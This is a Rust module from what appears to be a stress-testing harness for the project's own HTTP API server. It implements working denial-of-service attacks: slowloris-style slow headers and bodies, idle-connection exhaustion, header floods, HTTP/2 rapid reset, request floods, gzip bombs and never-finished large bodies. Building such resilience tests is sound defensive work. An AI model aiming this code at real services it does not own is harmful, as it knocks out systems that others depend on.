//! The attacks. Each goes on until it is dropped, at a pace of its own.

use std::{io, pin::Pin, sync::Arc, time::Duration};

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::{TcpListener, TcpStream},
    task::JoinSet,
    time::{interval, sleep},
};

use crate::{frames, requests, target::Target};

/// One way to do harm.
pub(crate) struct Attack {
    pub(crate) name: &'static str,
    pub(crate) pace: &'static str,
    pub(crate) run: fn(Target) -> Pin<Box<dyn Future<Output = ()>>>,
}

macro_rules! attacks {
    ($($name:literal, $pace:literal, $run:ident;)*) => {
        /// All of them.
        pub(crate) const ALL: &[Attack] =
            &[$(Attack { name: $name, pace: $pace, run: |target| Box::pin($run(target)) }),*];
    };
}

attacks! {
    "idle connections", "10,000, opened at 5,000/s", idle;
    "slow heads", "500, a byte each 100 ms", slow_heads;
    "slow bodies", "500, a byte each 100 ms", slow_bodies;
    "header floods", "8 at 2.5 MB/s", header_floods;
    "streams nobody reads", "50, begun at 50/s", unread_streams;
    "streams of a provider nobody reads", "50, begun at 50/s", unread_streams_of_a_provider;
    "rapid reset", "4 at 2,500 streams/s", rapid_reset;
    "connection churn", "2,000/s", churn;
    "404 flood", "2,000/s on 8 connections", not_found;
    "401 flood", "2,000/s on 8 connections", bad_key;
    "gzip bombs", "20/s of 64 MiB", bombs;
    "large bodies", "20 of 32 MiB at 10 MB/s", large_bodies;
}

async fn connect(target: &Target) -> io::Result<TcpStream> {
    let stream = TcpStream::connect(target.address).await?;
    // Closing leaves nothing behind that would use up the ports of this machine.
    stream.set_zero_linger()?;
    stream.set_nodelay(true)?;
    Ok(stream)
}

/// So many attackers at once, each again and again, with a pause between two beginnings.
async fn many<F>(count: usize, pause: Duration, attacker: impl Fn() -> F)
where
    F: Future<Output = io::Result<()>> + Send + 'static,
{
    let mut attackers = JoinSet::new();
    let mut beat = interval(pause);
    loop {
        beat.tick().await;
        attackers.spawn(attacker());
        if attackers.len() >= count {
            let _ended = attackers.join_next().await;
        }
    }
}

async fn idle(target: Target) {
    let mut held = JoinSet::new();
    let mut beat = interval(Duration::from_millis(10));
    loop {
        beat.tick().await;
        for _ in 0..50.min(10_000_usize.saturating_sub(held.len())) {
            let target = target.clone();
            held.spawn(async move {
                let read = connect(&target).await?.read(&mut [0; 1_000]).await;
                read.map(drop)
            });
        }
        while held.try_join_next().is_some() {}
    }
}

async fn trickle(target: Target, beginning: String) {
    many(500, Duration::from_millis(1), || {
        let (target, beginning) = (target.clone(), beginning.clone());
        async move {
            let mut stream = connect(&target).await?;
            stream.write_all(beginning.as_bytes()).await?;
            loop {
                sleep(Duration::from_millis(100)).await;
                stream.write_all(b"x").await?;
            }
        }
    })
    .await;
}

async fn slow_heads(target: Target) {
    trickle(
        target,
        "GET /api/v1/ping HTTP/1.1\r\nhost: localhost\r\nx-slow: ".to_owned(),
    )
    .await;
}

async fn slow_bodies(target: Target) {
    let beginning = requests::head(&target, "content-length: 1000000\r\n\r\n");
    trickle(target, beginning).await;
}

async fn header_floods(target: Target) {
    many(8, Duration::from_millis(3), || {
        let target = target.clone();
        async move {
            let mut stream = connect(&target).await?;
            stream
                .write_all(b"GET /api/v1/ping HTTP/1.1\r\nhost: localhost\r\n")
                .await?;
            let piece = "x-more: 1\r\n".repeat(1_500);
            loop {
                stream.write_all(piece.as_bytes()).await?;
                sleep(Duration::from_micros(6_600)).await;
            }
        }
    })
    .await;
}

async fn unread(target: Target, request: Vec<u8>) {
    let request: Arc<[u8]> = request.into();
    many(50, Duration::from_millis(20), || {
        let (target, request) = (target.clone(), Arc::clone(&request));
        async move {
            let mut stream = connect(&target).await?;
            stream.write_all(&request).await?;
            std::future::pending().await
        }
    })
    .await;
}

async fn unread_streams(target: Target) {
    let request = requests::long_stream(&target);
    unread(target, request).await;
}

async fn unread_streams_of_a_provider(target: Target) {
    let listener = TcpListener::bind("127.0.0.1:0").await.expect("a free port");
    let port = listener.local_addr().expect("it is bound").port();
    let request = requests::stream_of_a_provider(&target, port);
    tokio::join!(unread(target, request), provide(listener));
}

/// A provider that streams for as long as it is read.
async fn provide(listener: TcpListener) {
    let event = format!(
        "data: {{\"choices\":[{{\"index\":0,\"delta\":{{\"content\":\"{}\"}}}}]}}\n\n",
        "x".repeat(10_000)
    );
    let chunk: Arc<str> = format!("{:x}\r\n{event}\r\n", event.len()).into();
    let mut streams = JoinSet::new();
    while let Ok((mut stream, _)) = listener.accept().await {
        let chunk = Arc::clone(&chunk);
        streams.spawn(async move {
            let _request = stream.read(&mut [0; 4_096]).await?;
            let head =
                "HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\ntransfer-encoding: chunked\r\n\r\n";
            stream.write_all(head.as_bytes()).await?;
            loop {
                stream.write_all(chunk.as_bytes()).await?;
                sleep(Duration::from_millis(5)).await;
            }
            #[expect(unreachable_code, reason = "it names the type")]
            io::Result::Ok(())
        });
    }
}

async fn rapid_reset(target: Target) {
    many(4, Duration::from_millis(10), || {
        let target = target.clone();
        async move {
            let mut stream = connect(&target).await?;
            stream.write_all(&frames::beginning()).await?;
            let (mut reader, mut writer) = stream.into_split();
            let reading = async move {
                while reader.read(&mut [0; 4_096]).await? > 0 {}
                Ok(())
            };
            let writing = async move {
                for first in (1..u32::MAX >> 2).step_by(100) {
                    let streams = (first..first + 100).step_by(2);
                    let resets: Vec<u8> = streams.flat_map(frames::opened_and_reset).collect();
                    writer.write_all(&resets).await?;
                    sleep(Duration::from_millis(20)).await;
                }
                Ok(())
            };
            tokio::select! { ended = reading => ended, ended = writing => ended }
        }
    })
    .await;
}

async fn churn(target: Target) {
    let mut beat = interval(Duration::from_millis(10));
    loop {
        beat.tick().await;
        for _ in 0..20 {
            drop(connect(&target).await);
        }
    }
}

/// The same request again and again, 250 times a second, on eight connections.
async fn repeat(target: Target, request: Vec<u8>) {
    let request: Arc<[u8]> = request.into();
    many(8, Duration::from_millis(1), || {
        let (target, request) = (target.clone(), Arc::clone(&request));
        async move {
            let mut stream = connect(&target).await?;
            let mut beat = interval(Duration::from_millis(4));
            loop {
                beat.tick().await;
                stream.write_all(&request).await?;
                if stream.read(&mut [0; 4_096]).await? == 0 {
                    return Ok(());
                }
            }
        }
    })
    .await;
}

async fn not_found(target: Target) {
    repeat(
        target,
        b"GET /nowhere HTTP/1.1\r\nhost: localhost\r\n\r\n".to_vec(),
    )
    .await;
}

async fn bad_key(target: Target) {
    let request = requests::with_bad_key(&target);
    repeat(target, request).await;
}

async fn bombs(target: Target) {
    let bomb: Arc<[u8]> = requests::bomb(&target).into();
    many(40, Duration::from_millis(50), || {
        let (target, bomb) = (target.clone(), Arc::clone(&bomb));
        async move {
            let mut stream = connect(&target).await?;
            stream.write_all(&bomb).await?;
            stream.read(&mut [0; 4_096]).await.map(drop)
        }
    })
    .await;
}

async fn large_bodies(target: Target) {
    const BYTES: usize = 32 << 20;
    let head = requests::head(&target, &format!("content-length: {BYTES}\r\n\r\n"));
    let piece: Arc<[u8]> = vec![b' '; 100_000].into();
    many(20, Duration::from_millis(10), || {
        let (target, head, piece) = (target.clone(), head.clone(), Arc::clone(&piece));
        async move {
            let mut stream = connect(&target).await?;
            stream.write_all(head.as_bytes()).await?;
            // All but its end, which never comes.
            for _ in 0..BYTES / piece.len() {
                stream.write_all(&piece).await?;
                sleep(Duration::from_millis(10)).await;
            }
            stream.read(&mut [0; 4_096]).await.map(drop)
        }
    })
    .await;
}
